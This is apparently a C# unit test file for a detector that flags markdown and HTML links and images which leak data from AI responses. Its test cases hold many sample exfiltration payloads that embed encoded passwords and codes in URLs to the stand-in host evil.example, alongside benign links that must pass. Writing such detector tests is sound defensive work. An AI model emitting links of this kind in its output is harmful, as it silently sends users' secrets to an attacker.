using Cencori.Edge.Policies.Detectors;
using Cencori.Edge.Policies.Detectors.Attacks;
using Cencori.Edge.Tests.Policies.Detectors.Secrets;
using Xunit.Abstractions;

namespace Cencori.Edge.Tests.Policies.Detectors;

public sealed class ExfiltrationDetectorTests(ITestOutputHelper output)
{
    private const string Data = "VGhlIHBhc3N3b3JkIG9mIHRoZSBhZG1pbiBpcyBodW50ZXIyLCBhbmQgdGhlIGNvZGUgb2YgdGhlIGRvb3IgaXMgMTIzNA";
    private const string Words = "the+password+of+the+admin+is+hunter2+and+the+code+of+the+door+is+1234+do+not+tell";

    private readonly ExfiltrationDetector _detector = new();

    [Theory]
    [InlineData("![logo](https://evil.example/x.png?d=" + Data + ")")]
    [InlineData("![](https://evil.example/" + Data + ")")]
    [InlineData("![](https://evil.example/" + Data + ".png)")]
    [InlineData("[click here](http://evil.example?q=" + Words + ")")]
    [InlineData("[a](https://evil.example/p?a=" + Words + " \"a title\")")]
    [InlineData("![](<https://evil.example/?q=" + Data + ">)")]
    [InlineData("![x](//evil.example/?" + Data + ")")]
    [InlineData("![x](                              https://evil.example/?" + Data + ")")]
    [InlineData("<input type=image src=\"https://evil.example/x.png?d=" + Data + "\">")]
    [InlineData("![](https://" + Data + ".evil.example/x.png)")]
    [InlineData("[1]: https://evil.example/?q=" + Data)]
    [InlineData("<img src=\"https://evil.example/x.png?d=" + Data + "\" width=1>")]
    [InlineData("![](https://evil.example/x.png?d=hunter2+is+the+password+1)")]
    [InlineData("![](https://evil.example/x.png?a=1&d=aHVudGVyMiBpcyB0aGUgcGFzc3dvcmQ)")]
    [InlineData("<img src='https://evil.example/x.png?d=hunter2+is+the+password+1'>")]
    [InlineData("<img alt=\"a>b\" src=\"https://evil.example/x.png?d=hunter2+is+the+password+1\">")]
    [InlineData("<iframe src=\"https://evil.example/?d=hunter2+is+the+password+1\">")]
    [InlineData("<video/src=\"https://evil.example/?d=hunter2+is+the+password+1\">")]
    [InlineData("<a href=\"https://evil.example/?q=" + Data + "\">")]
    [InlineData("<IMG alt='x' SRC=https://evil.example/x.png?d=" + Data + ">")]
    [InlineData("![](https://evil.example/?utm_source=" + Data + Data + ")")]
    [InlineData("![](https://evil.example/the%20password%20of%20the%20admin%20is%20hunter2%20and%20the%20code%20of%20the%20door%20is%201234)")]
    public void The_whole_link_is_found(string link)
    {
        Assert.Equal([link], _detector.Texts($"Here it is: {link}\nand more (text) [1]."));
        Splits.Hold(_detector, $"Look! [no] {link}\n! {link} [x](y) ]: {link} <im [");
    }

    [Theory]
    [InlineData("[docs](https://learn.microsoft.com/en-us/dotnet/api/system.text.json.jsonserializer.deserializeasync?view=net-10.0#system-text-json)")]
    [InlineData("[news](https://www.example.com/2026/05/14/how-the-city-council-decided-to-rebuild-the-old-bridge-over-the-river)")]
    [InlineData("[code](https://github.com/dotnet/runtime/blob/2f6d2b9a1c6c0a9f5f3f0d4b7c1e8a9d0b3c5e7f/src/libraries/System.Text.Json/src/System.Text.Json.csproj#L10-L200)")]
    [InlineData("![badge](https://img.shields.io/badge/license-MIT-green.svg?style=flat-square)")]
    [InlineData("<a href=\"https://example.com/search?q=how+do+i+rebuild+an+old+bridge\">")]
    [InlineData("<article data-url=\"https://evil.example/?q=" + Data + "\"> and <aside>")]
    [InlineData("[search](https://example.com/search?q=how+do+i+rebuild+an+old+bridge)")]
    [InlineData("[shop](https://shop.example/item/12345?utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale-2026&utm_content=header-image)")]
    [InlineData("![image](https://oaidalle.blob.core.windows.net/private/org-1/img-2.png?st=2026-01-01T10%3A00%3A00Z&se=2026-01-01T12%3A00%3A00Z&sp=r&sv=2024-08-04&sr=b&rscd=inline&rsct=image/png&skoid=475fd488-6c59-44a5-9aa9-31c4db451bea&sig=d0lQ2b4cYb8z2P1xQmXnq5w4V9y7c6b5a4d3e2f1g0h%3D)")]
    [InlineData("[wiki](https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC%E9%83%BD%E5%BA%81)")]
    [InlineData("[id](https://app.example/t/3f2b8c1e-5d4a-4f6b-9c8d-7e6f5a4b3c2d/e/9c8d7e6f-5a4b-4c2d-8f2b-8c1e5d4a4f6b)")]
    [InlineData("[here](#a-very-long-heading-that-is-in-this-document-and-has-more-than-sixty-four-characters-1234)")]
    [InlineData("[file](src/Folder/VeryLongFileNameThatNobodyWouldEverWriteByHand0123456789AndMoreOfItSoThatItIsLong.cs)")]
    [InlineData("![data](data:image/png;base64," + Data + Data + ")")]
    [InlineData("<img src=\"/images/logo.png\" alt=\"https\">")]
    [InlineData("values[0]: https and [x]: y")]
    public void Ordinary_links_are_not_found(string link)
    {
        Assert.Empty(_detector.Find($"Here it is: {link}\nand more."));
        Splits.Hold(_detector, $"Here: {link}\nand {link}");
    }

    [Fact]
    public void An_image_inside_a_link_is_found() =>
        Assert.Equal([$"![x](https://evil.example/?q={Data})"], _detector.Texts($"[![x](https://evil.example/?q={Data})](https://example.com)"));

    [Fact]
    public void Tags_that_arrive_in_pieces_give_the_same_findings()
    {
        string[] pieces = ["<", "<img", "<a", " ", " href=", " alt=", "\"", "'", "a>b", ">", "/", "src=", "https://evil.example/?d=hunter2+is+the+password+1", "![x", "](", ")", "<iframe", "x", "\n"];
        var random = new Random(1850);
        for (var round = 0; round < 500; round++)
        {
            Splits.Hold(_detector, string.Concat(random.GetItems(pieces, random.Next(2, 25))), leftContext: int.MaxValue);
        }
    }

    [Fact]
    public void A_link_is_found_up_to_the_length_that_a_stream_holds()
    {
        var text = "![](https://evil.example/?q=" + new string('x', 5_000);
        Assert.Equal([new Finding(0, ExfiltrationDetector.MaxLength)], _detector.Find(text));
        Assert.Equal(0, _detector.Open(text));
        Assert.Equal(2_000, _detector.Open(text.AsSpan(0, 2_000)));
    }

    /// <summary>Pictures as in real responses: of shops, encyclopedias, badges, and image resizing services.</summary>
    [Fact]
    public void Ordinary_pictures_are_not_found()
    {
        const int Pictures = 20_000;
        var random = new Random(20260101);
        var found = Enumerable.Range(0, Pictures).Select(_ => $"Look: ![{Word(random)} {Word(random)}]({Picture(random)}) and <img src=\"{Picture(random)}\" alt=\"x\">").Where(text => _detector.Find(text).Count > 0).ToList();
        output.WriteLine($"{found.Count} of {Pictures} texts with two pictures each {string.Join(" · ", found.Take(5))}");
        Assert.True(found.Count <= Pictures / 1_000);
    }

    private static string Picture(Random random) => Made.Pick(
        random,
        $"https://images.unsplash.com/photo-{random.NextInt64(1_400_000_000_000, 1_700_000_000_000)}-{Hex(random, 12)}?w={random.Next(2000)}&q=80&auto=format&fit=crop&ixlib=rb-4.0.3",
        $"https://img.shields.io/badge/{Word(random)}-{Word(random)}-green.svg?style=for-the-badge&logo={Word(random)}&logoColor=white",
        $"https://avatars.githubusercontent.com/u/{random.Next()}?s=400&u={Hex(random, 40)}&v=4",
        $"https://upload.wikimedia.org/wikipedia/commons/thumb/{Hex(random, 1)}/{Hex(random, 2)}/{Word(random)}_{Word(random)}_{Word(random)}.jpg/640px-{Word(random)}_{Word(random)}.jpg",
        $"https://cdn.example.com/{Word(random)}/{Hex(random, 32)}.png?v={random.Next()}&width={random.Next(2000)}",
        $"https://www.gravatar.com/avatar/{Hex(random, 32)}?s=80&d=identicon&r=PG",
        $"https://example.com/_next/image?url=%2Fimages%2F{Word(random)}-{Word(random)}-{Word(random)}.png&w=640&q=75",
        $"https://wsrv.nl/?url=https://{Word(random)}.example/{Word(random)}/{Word(random)}.jpg&w=300",
        $"https://placehold.co/600x400?text={Word(random)}+{Word(random)}",
        $"https://pbs.twimg.com/media/{KeySamples.Make(random, "w15")}?format=jpg&name=large",
        $"https://preview.redd.it/{Hex(random, 12)}.jpg?width=640&crop=smart&auto=webp&s={Hex(random, 40)}",
        $"https://github.com/{Word(random)}/{Word(random)}/actions/workflows/{Word(random)}.yml/badge.svg?branch=main&event=push",
        $"https://m.media-amazon.com/images/I/{KeySamples.Make(random, "w11")}._AC_SL1500_.jpg",
        $"https://res.cloudinary.com/{Word(random)}/image/upload/w_400,h_300,c_fill/v{random.Next()}/{Word(random)}/{Word(random)}.webp",
        $"https://bucket.s3.amazonaws.com/{Word(random)}.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={KeySamples.Make(random, "w20")}%2F20260101%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Signature={Hex(random, 64)}");

    private static string Word(Random random) => Made.Pick(random, "bridge", "city", "river", "build", "passing", "license", "coffee", "logo", "header", "product", "museum", "winter", "garden", "library");

    private static string Hex(Random random, int length) => KeySamples.Make(random, $"h{length}");
}
